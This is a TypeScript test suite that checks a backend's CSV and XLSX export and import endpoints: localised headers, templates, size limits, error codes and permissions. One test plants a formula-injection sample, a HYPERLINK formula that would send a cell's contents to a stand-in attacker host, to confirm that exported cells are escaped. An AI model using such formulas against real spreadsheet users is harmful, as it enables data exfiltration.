// @vitest-environment node
import * as XLSX from '@e965/xlsx';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { demoBackend, ORG_BEIJING, signInAs, type Client } from './client';

type Obj = Record<string, unknown> & { id: string };

const backend = demoBackend();
let admin: Client;

beforeAll(async () => {
  admin = await signInAs(backend, 'admin');
  admin.cookies.set('django_language', 'en');
});

async function csv(
  path: string,
  client: Client = admin,
): Promise<{ rows: string[][]; text: string; res: Response }> {
  const res = await client.raw('GET', path);
  expect(res.status).toBe(200);
  const bytes = new Uint8Array(await res.arrayBuffer());
  const text = new TextDecoder().decode(bytes);
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
  return { rows, text, res };
}

function column(rows: string[][], title: string): string[] {
  const at = rows[0]!.indexOf(title);
  expect(at).toBeGreaterThanOrEqual(0);
  return rows.slice(1).map((r) => r[at]!);
}

describe('export (docs/wire.md §12.1)', () => {
  it('renders CSV with a BOM, the model file name and localised, starred headers', async () => {
    const { rows, res } = await csv('/api/v1/users/users/?format=csv&search=admin');
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="user_\d{4}-\d{2}-\d{2}_\d{2}-\d{2}-\d{2}\.csv"$/,
    );
    expect(rows[0]!.slice(0, 4)).toEqual(['ID', '*Name', '*Username', '*Email']);
    expect(rows[0]).not.toContain('Password');
    expect(rows[0]).not.toContain('Avatar url');
    expect(rows[0]).not.toContain('Organization ID');
    const api = await admin.get<Obj[]>('/api/v1/users/users/?search=admin');
    expect(column(rows, '*Username')).toEqual(api.body.map((u) => u.username));
  });

  it('renders cells: - for null, Yes/No, choice values, name(id) and JSON lists', async () => {
    const { rows } = await csv('/api/v1/users/users/?format=csv&username=admin');
    const row = Object.fromEntries(rows[0]!.map((t, i) => [t, rows[1]![i]]));
    expect(row.Phone).toBe('-');
    expect(row['Is active']).toBe('Yes');
    expect(row['Is service account']).toBe('No');
    expect(row['MFA level']).toBe('0');
    expect(row.Source).toBe('local');
    expect(row['System roles']).toBe('["SystemAdmin(00000000-0000-0000-0000-000000000001)"]');
    expect(row['Date joined']).toMatch(/^\d{4}\/\d{2}\/\d{2} \d{2}:\d{2}:\d{2} \+0800$/);

    const hosts = await csv('/api/v1/assets/hosts/?format=csv&platform=Linux&limit=5');
    expect(hosts.rows[0]).not.toContain('Auto info');
    const platform = column(hosts.rows, '*Platform');
    expect(platform.every((p) => /^Linux\(\d+\)$/.test(p))).toBe(true);
    const protocols = column(hosts.rows, 'Protocols');
    expect(JSON.parse(protocols[0]!)).toContain('ssh/22');
    expect(protocols[0]).toMatch(/^\["ssh\/22", /);
    const nodes = column(hosts.rows, 'Nodes');
    expect(nodes[0]).toMatch(/^\[".+\([0-9a-f-]{36}\)"/);
  });

  it('templates: import keeps writable fields without id and one row; update keeps id', async () => {
    const tpl = await csv('/api/v1/users/users/?format=csv&template=import&limit=1');
    expect(tpl.rows).toHaveLength(2);
    expect(tpl.rows[0]).not.toContain('ID');
    expect(tpl.rows[0]).toContain('Password');
    expect(tpl.rows[0]).not.toContain('Date joined');
    expect(column(tpl.rows, 'Password')).toEqual(['-']);
    const groups = (await admin.get<Obj[]>('/api/v1/users/groups/')).body.slice(0, 2);
    const spm = (
      await admin.post<{ spm: string }>('/api/v1/common/resources/cache/', {
        resources: groups.map((g) => g.id),
      })
    ).body.spm;
    const upd = await csv(`/api/v1/users/groups/?format=csv&template=update&spm=${spm}`);
    expect(upd.rows[0]![0]).toBe('ID');
    expect(column(upd.rows, 'ID').sort()).toEqual(groups.map((g) => g.id).sort());
  });

  it('takes the org from the X-JMS-ORG cookie and the labels from the language cookie', async () => {
    const client = await signInAs(backend, 'admin');
    client.useOrg(ORG_BEIJING);
    client.cookies.set('django_language', 'zh-hans');
    const { rows } = await csv('/api/v1/users/groups/?format=csv', client);
    expect(rows[0]!.slice(0, 3)).toEqual(['ID', '*名称', '备注']);
    const beijing = await client.get<Obj[]>('/api/v1/users/groups/');
    expect(rows.length - 1).toBe(beijing.body.length);
    expect(column(rows, 'ID').sort()).toEqual(beijing.body.map((g) => g.id).sort());
  });

  it('renders XLSX with one sheet of strings, also when asked through Accept', async () => {
    const res = await admin.raw('GET', '/api/v1/users/groups/', {
      headers: { Accept: 'application/xlsx' },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/xlsx; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/filename="usergroup_.+\.xlsx"/);
    const book = XLSX.read(new Uint8Array(await res.arrayBuffer()), { type: 'array' });
    expect(book.SheetNames).toHaveLength(1);
    const rows = XLSX.utils.sheet_to_json<string[]>(book.Sheets[book.SheetNames[0]!]!, {
      header: 1,
    });
    expect(rows[0]!.slice(0, 2)).toEqual(['ID', '*Name']);
    const api = await admin.get<Obj[]>('/api/v1/users/groups/');
    expect(rows.length - 1).toBe(api.body.length);
  });

  it('needs the view permission', async () => {
    const user = await signInAs(backend, 'user');
    expect((await user.raw('GET', '/api/v1/users/users/?format=csv')).status).toBe(403);
  });
});

describe('render-to-json (docs/wire.md §12.2)', () => {
  const post = (client: Client, path: string, body: BodyInit, contentType: string) =>
    client.call<{ title: string[][]; data: Record<string, unknown>[] }>('POST', path, {
      body,
      contentType,
    });

  it('maps titles by label (any language) or field name, strips * and converts cells', async () => {
    const file = [
      '*名称,*Username,email,Is active,User group,Phone,comment,Unknown column',
      'Alice,alice,alice@example.com,Yes,"[""Default(3f2504e0-4f89-41d3-9a0c-0305e82c3301)""]",-,O\'Brien,extra',
      ',,,,,,,',
      'Bob,bob,bob@example.com,false,[],13800000000,“quoted”,',
    ].join('\r\n');
    const res = await post(
      admin,
      '/api/v1/users/users/render-to-json/',
      `\uFEFF${file}`,
      'text/csv',
    );
    expect(res.status).toBe(200);
    expect(res.body.title).toEqual([
      ['*名称', 'name'],
      ['*Username', 'username'],
      ['email', 'email'],
      ['Is active', 'is_active'],
      ['User group', 'groups'],
      ['Phone', 'phone'],
      ['comment', 'comment'],
    ]);
    expect(res.body.data).toEqual([
      {
        name: 'Alice',
        username: 'alice',
        email: 'alice@example.com',
        is_active: true,
        groups: [{ pk: '3f2504e0-4f89-41d3-9a0c-0305e82c3301', name: 'Default' }],
        phone: null,
        comment: 'O"Brien',
        '': 'extra',
      },
      {
        name: 'Bob',
        username: 'bob',
        email: 'bob@example.com',
        is_active: false,
        groups: [],
        phone: '13800000000',
        comment: '"quoted"',
        '': '',
      },
    ]);
  });

  it('round-trips an exported hosts file: name(id) with short ids as ints, ssh/22 protocols', async () => {
    const exported = await admin.raw(
      'GET',
      '/api/v1/assets/hosts/?format=csv&template=update&platform=Linux&limit=1',
    );
    const res = await post(
      admin,
      '/api/v1/assets/hosts/render-to-json/',
      new Uint8Array(await exported.arrayBuffer()),
      'text/csv',
    );
    expect(res.status).toBe(200);
    const row = res.body.data[0]!;
    expect(row.platform).toEqual({ pk: 1, name: 'Linux' });
    expect(row.protocols).toContainEqual({ name: 'ssh', port: '22' });
    expect(res.body.title).toContainEqual(['ID', 'id']);
    // The row goes straight back through PUT, as the update import does.
    const put = await admin.put<Obj>(`/api/v1/assets/hosts/${String(row.id)}/`, {
      ...row,
      comment: 'reimported',
      '@status': 'pending',
    });
    expect(put.status).toBe(200);
    expect(put.body.comment).toBe('reimported');
  });

  it('writes formula-like CSV cells behind a quote and reads them back as they were', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    const created = await admin.post<Obj>('/api/v1/users/groups/', {
      name: '@SUM(1+1)',
      comment: formula,
    });
    expect(created.status).toBe(201);
    const { text, rows } = await csv(`/api/v1/users/groups/?format=csv&id=${created.body.id}`);
    // A spreadsheet shows a quoted cell as text; `-` (null) and numbers are left alone.
    expect(text).toContain(`'@SUM(1+1)`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(rows[1]!.filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
    const res = await post(
      admin,
      '/api/v1/users/groups/render-to-json/',
      new TextEncoder().encode(text),
      'text/csv',
    );
    expect(res.status).toBe(200);
    expect(res.body.data[0]).toMatchObject({ name: '@SUM(1+1)', comment: formula });
  });

  it('reads XLSX sent as text/xlsx', async () => {
    const sheet = XLSX.utils.aoa_to_sheet([
      ['*Name', 'Comment'],
      ['From Excel', '-'],
    ]);
    const book = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(book, sheet, 'Sheet');
    const bytes = XLSX.write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer;
    const res = await post(
      admin,
      '/api/v1/users/groups/render-to-json/',
      new Uint8Array(bytes),
      'text/xlsx',
    );
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      title: [
        ['*Name', 'name'],
        ['Comment', 'comment'],
      ],
      data: [{ name: 'From Excel', comment: null }],
    });
  });

  it('answers the docs/wire.md §12.2 errors: empty file, parse failure, over 10 MiB, wrong type, no add permission', async () => {
    const empty = await post(
      admin,
      '/api/v1/users/groups/render-to-json/',
      'name,comment\r\n,\r\n',
      'text/csv',
    );
    expect(empty.status).toBe(400);
    expect(empty.body).toEqual({ error: 'Request file format may be wrong' });

    const broken = await post(
      admin,
      '/api/v1/users/groups/render-to-json/',
      'not an xlsx file',
      'text/xlsx',
    );
    expect(broken.status).toBe(400);
    expect(broken.body).toMatchObject({ code: 'parse_error' });
    expect((broken.body as unknown as { detail: string }).detail).toMatch(/^Parse file error: /);

    const big = new Uint8Array(10 * 1024 * 1024 + 1).fill(0x41);
    const overflow = await post(admin, '/api/v1/users/groups/render-to-json/', big, 'text/csv');
    expect(overflow.status).toBe(400);
    expect(overflow.body).toEqual({
      detail: 'The file content overflowed (The maximum length `10485760` bytes)',
      code: 'file_content_overflowed',
    });
    // Exactly 10 MiB is still read: a lone title row, so the "no data" error instead.
    const exactly = await post(
      admin,
      '/api/v1/users/groups/render-to-json/',
      new Uint8Array(10 * 1024 * 1024).fill(0x41),
      'text/csv',
    );
    expect(exactly.body).toEqual({ error: 'Request file format may be wrong' });

    const wrongType = await post(
      admin,
      '/api/v1/users/groups/render-to-json/',
      'a,b',
      'application/pdf',
    );
    expect(wrongType.status).toBe(415);

    const auditor = await signInAs(backend, 'auditor');
    const denied = await post(
      auditor,
      '/api/v1/users/groups/render-to-json/',
      'name\r\nx\r\n',
      'text/csv',
    );
    expect(denied.status).toBe(403);
  });
});
